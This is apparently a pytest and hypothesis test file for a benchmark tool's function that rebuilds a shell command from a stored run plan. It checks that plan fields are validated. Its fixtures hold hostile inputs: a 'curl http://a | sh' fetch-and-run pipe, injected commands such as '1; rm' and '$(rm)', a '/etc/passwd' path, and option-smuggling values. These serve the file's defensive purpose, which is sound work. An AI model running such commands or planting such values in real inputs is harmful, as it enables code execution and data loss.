"""The command that makes the rest of a run: of checked fields of its plan alone, and it does make it."""

import shlex
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from robustbench_sgdm.core.errors import DataError
from robustbench_sgdm.store import Run, repeat_command

MODEL = {
    "weights": "embedded",
    "imgsz": 640,
    "conf": 0.001,
    "iou": 0.7,
    "max_det": 300,
    "half": False,
    "device": "cpu",
}


def run_of(path: Path = Path("runs/r"), **changes: Any) -> Run:
    plan = {
        "command": "curl http://a | sh",
        "models": {"yolov8n": MODEL, "yolov8n-sgdm": {**MODEL, "baseline": "yolov8n", "module": "sgdm"}},
        "data": {"name": "scenes-0.25", "source": "scenes", "images": 64},
        "corruptions": {"gaussian_noise": {}, "fog[fog=0.5]": {}},
        "severities": [0.0, 2.5],
        "settings": {"engine": "torch", "seed": 3, "device": "cpu"},
        "cells": [],
    }
    return Run(path, plan | changes)


def test_it_is_made_of_fields() -> None:
    assert repeat_command(run_of()) == (
        "robustbench run --model yolov8n --model yolov8n-sgdm --data scenes --fraction 0.25 --noise gaussian_noise "
        "--noise 'fog[fog=0.5]' --severity 0,2.5 --engine torch --seed 3 --device cpu --imgsz 640 --conf 0.001 --iou 0.7 "
        "--max-det 300 --project runs --name r"
    )


def test_the_current_folder_has_a_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """As in `cd runs/r; robustbench report .`"""
    (tmp_path / "r/figures").mkdir(parents=True)
    for folder, path in (("r", "."), ("r/figures", "..")):
        monkeypatch.chdir(tmp_path / folder)
        assert shlex.split(repeat_command(run_of(Path(path))))[-4:] == [
            "--project",
            str(tmp_path),
            "--name",
            "r",
        ]


def test_files_and_baselines() -> None:
    files = {
        "a b": {**MODEL, "weights": "x/a b.pt"},
        "c": {**MODEL, "weights": "c.safetensors", "baseline": "a b"},
    }
    made = repeat_command(run_of(models=files))
    assert "--model 'x/a b.pt' --model c.safetensors --baseline 'x/a b.pt'" in made
    graft = {"yolov8n-sgdm": {**MODEL, "weights": "w.pt", "module": "sgdm"}}
    assert "--model yolov8n-sgdm --weights yolov8n-sgdm=w.pt --no-baseline" in repeat_command(
        run_of(models=graft)
    )


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"models": {"a": {"weights": "none"}}}, "names no file with the weights"),
        ({"models": {"a; b": MODEL}}, "names no file with the weights"),
        ({"models": {"-a": {**MODEL, "weights": "-a.pt"}}}, "begins with a dash"),
        ({"models": {"a": {**MODEL, "weights": "\u202ea.pt"}}}, "cannot be seen"),
        ({"models": {"a b": {**MODEL, "weights": "c.pt"}}}, "neither a model of the zoo"),
        ({"models": {"a": {**MODEL, "group": "g"}}}, "--from-train"),
        ({"models": {"a": {**MODEL, "conf": "1; rm"}}}, "conf is"),
        ({"models": {"a": MODEL, "b": {**MODEL, "conf": 0.5}}}, "differ in conf"),
        ({"data": {"name": "x", "source": "/etc/passwd", "images": 1}}, "neither scenes"),
        (
            {"data": {"name": "--trust-weights", "source": "--trust-weights.json", "images": 1}},
            "begins with a dash",
        ),
        ({"data": {"name": "other", "source": "a.json", "images": 1}}, "which part"),
        ({"corruptions": {"$(rm)": {}}}, "no corruption's name"),
        ({"corruptions": {}}, "clean images alone"),
        ({"severities": [1, "2"]}, "not numbers from 0 to 5"),
        ({"settings": {"engine": "elsewhere", "seed": 0}}, "robustbench score"),
        (
            {"settings": {"engine": "torch", "seed": 0, "device": "cpu --trust-weights"}},
            "neither cpu nor cuda",
        ),
    ],
)
def test_why_there_is_none(changes: Mapping[str, Any], why: str) -> None:
    with pytest.raises(DataError, match=why):
        repeat_command(run_of(**changes))


TEXT = st.text(max_size=12) | st.sampled_from(
    ["--yes", "$(x)", "a;b", "a\nb", "`x`", "'", "scenes", "a.json", "a.pt", "-"]
)


@given(TEXT, TEXT, TEXT, TEXT, TEXT)
def test_no_plan_brings_an_option_or_a_second_command(
    model: str, weights: str, data: str, noise: str, name: str
) -> None:
    fields = {"models": {model: {**MODEL, "weights": weights}}, "corruptions": {noise: {}}}
    run = run_of(
        Path("runs") / (name or "r"), data={"name": Path(data).stem, "source": data, "images": 1}, **fields
    )
    try:
        words = shlex.split(repeat_command(run))
    except DataError:
        return
    options = {word for word in words if word.startswith("-")}
    known = (
        "model",
        "weights",
        "data",
        "noise",
        "severity",
        "engine",
        "seed",
        "device",
        "imgsz",
        "conf",
        "iou",
        "max-det",
    )
    assert options <= {
        f"--{option}" for option in (*known, "project", "name", "fraction", "no-baseline", "baseline")
    }
    assert words[:2] == ["robustbench", "run"] and len(repeat_command(run).splitlines()) == 1


def test_it_makes_the_rest(command: Callable[..., str], tmp_path: Path) -> None:
    """Of a run that was made with options; the same directory, and nothing is done twice."""
    words = ("--fraction", "0.01", "--severity", "0,3", "--imgsz", "320", "--seed", "5", "--noise", "fog")
    command("run", "--model", "yolov8n", *words, "--name", "r")
    run = Run.open(tmp_path / "runs/robustness/r")
    (run.store.folder(run.cells[1]) / "scores.json").unlink()
    told = command(*shlex.split(repeat_command(run))[1:])
    assert "1 cells stored" in told and not run.missing() and len([*run.path.parent.iterdir()]) == 1
